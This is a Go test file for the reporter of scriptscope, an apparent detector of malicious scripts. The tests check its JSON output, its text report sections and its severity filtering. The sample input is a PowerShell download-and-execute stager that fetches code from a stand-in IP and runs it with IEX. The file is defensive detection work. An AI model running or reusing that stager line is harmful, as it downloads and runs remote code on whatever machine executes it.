package reporter

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/0xlayer/scriptscope/internal/analyzer"
	"github.com/0xlayer/scriptscope/internal/catalog"
	"github.com/0xlayer/scriptscope/internal/pipeline"
)

func sampleResult(t *testing.T) pipeline.Result {
	t.Helper()
	p, err := pipeline.New(catalog.Default())
	if err != nil {
		t.Fatal(err)
	}
	script := `IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')`
	return p.Analyze(pipeline.Request{ID: "report-test", Data: []byte(script)})
}

func TestRenderJSON(t *testing.T) {
	res := sampleResult(t)

	var buf bytes.Buffer
	if err := New(&buf, FormatJSON, analyzer.SeverityInfo).Render(res); err != nil {
		t.Fatal(err)
	}

	var decoded map[string]interface{}
	if err := json.Unmarshal(buf.Bytes(), &decoded); err != nil {
		t.Fatalf("output is not valid json: %v", err)
	}
	if decoded["request_id"] != "report-test" {
		t.Errorf("request_id = %v", decoded["request_id"])
	}

	// Severities serialize as their string form.
	risk, ok := decoded["risk"].(map[string]interface{})
	if !ok {
		t.Fatalf("risk section missing: %v", decoded)
	}
	if _, ok := risk["level"].(string); !ok {
		t.Errorf("risk level should be a string, got %T", risk["level"])
	}
}

func TestRenderTextSections(t *testing.T) {
	res := sampleResult(t)

	var buf bytes.Buffer
	if err := New(&buf, FormatText, analyzer.SeverityInfo).Render(res); err != nil {
		t.Fatal(err)
	}
	out := buf.String()

	for _, want := range []string{
		"scriptscope analysis",
		"Risk:",
		"Obfuscation",
		"C2 framework",
		"Generic HTTP Stager",
		"198.51.100.7",
		"Recommendations",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("text report missing %q", want)
		}
	}
}

func TestRenderTextMinSeverityFiltersFindings(t *testing.T) {
	res := sampleResult(t)

	var all, filtered bytes.Buffer
	if err := New(&all, FormatText, analyzer.SeverityInfo).Render(res); err != nil {
		t.Fatal(err)
	}
	if err := New(&filtered, FormatText, analyzer.SeverityCritical).Render(res); err != nil {
		t.Fatal(err)
	}

	if filtered.Len() >= all.Len() {
		t.Error("raising the severity floor should shrink the findings section")
	}
	if !strings.Contains(filtered.String(), "CRITICAL") {
		t.Error("critical findings must survive the filter")
	}
}
